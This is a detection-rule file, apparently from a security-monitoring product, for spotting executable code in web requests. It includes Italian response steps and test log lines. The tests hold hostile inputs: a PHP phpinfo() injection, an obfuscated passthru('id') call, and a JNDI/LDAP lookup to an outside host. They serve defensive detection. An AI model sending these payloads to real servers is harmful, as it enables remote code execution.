/*---
id = "WB-16"
title.en = "Program text in a request"
title.it = "Codice da eseguire in una richiesta"
description.en = "PHP, Java, JavaScript, Ruby or Python meant to run on the server, serialised objects, look-ups such as JNDI."
description.it = "PHP, Java, JavaScript, Ruby o Python destinato a essere eseguito dal server, oggetti serializzati, ricerche come JNDI."
severity = "low"
family = "both"
entity = ["source_ip"]
attack = ["T1190", "T1059"]
acn_class = "Sfruttamento di vulnerabilità / -"
requires = { classes = ["web"], columns = ["source_ip", "url_path"] }
false_positives = ["Internet background noise: it counts when the product is there or the answer is 200", "a technician who searches a piece of code"]
false_positives_it = ["il rumore di fondo di Internet: conta quando il prodotto c'è o la risposta è 200", "un tecnico che cerca un pezzo di codice"]
response_it = [
  "1. Nessuna urgenza se la risposta è 403 o 404: è rumore di fondo.",
  "2. Se la risposta è 200 con molti byte, aprire la pagina e guardare che cosa restituisce.",
  "3. Cercare altri allarmi dello stesso indirizzo (DB-02, WB-02, WB-06).",
  "4. Bloccare l'indirizzo sul firewall se insiste.",
]

[param]
score = 0.7

[list.known_scanners]
when_empty = "nothing-listed"

[[test]]
name = "PHP that opens"
alerts = [{ source_ip = "198.51.100.60" }]
[[test.line]]
text = '''198.51.100.60 - - [{clf}] "GET /index.php?p=%3C%3Fphp%20phpinfo(); HTTP/1.1" 404 5120 "-" "Mozilla/5.0"'''

[[test]]
name = "a function by pieces of its name"
alerts = [{ source_ip = "198.51.100.60" }]
[[test.line]]
text = '''198.51.100.60 - - [{clf}] "GET /index.php?p=('pass'.'thru')('id'); HTTP/1.1" 404 5120 "-" "Mozilla/5.0"'''

[[test]]
name = "a JNDI look-up in the referrer"
alerts = [{ source_ip = "198.51.100.60" }]
[[test.line]]
text = '''198.51.100.60 - - [{clf}] "GET / HTTP/1.1" 404 5120 "${jndi:ldap://198.51.100.77/a}" "Mozilla/5.0"'''

[[test]]
name = "a page of a content manager"
alerts = []
[[test.line]]
text = '''198.51.100.60 - - [{clf}] "GET /index.php?option=com_content&view=article&id=7:sistema(nuovo) HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'''
---*/
SELECT source_ip, url_path, http_response_status_code
FROM events
WHERE class = 'web' AND event_action IN ('http_request', 'waf_block')
  AND in_list(source_ip, 'known_scanners') IS NOT TRUE
  AND (code_score(concat(url_path, '?', coalesce(url_query, ''))) >= $score
    OR code_score(http_request_referrer) >= $score
    OR code_score(concat('agent=', replace(user_agent_original, '; ', ', '))) >= $score)
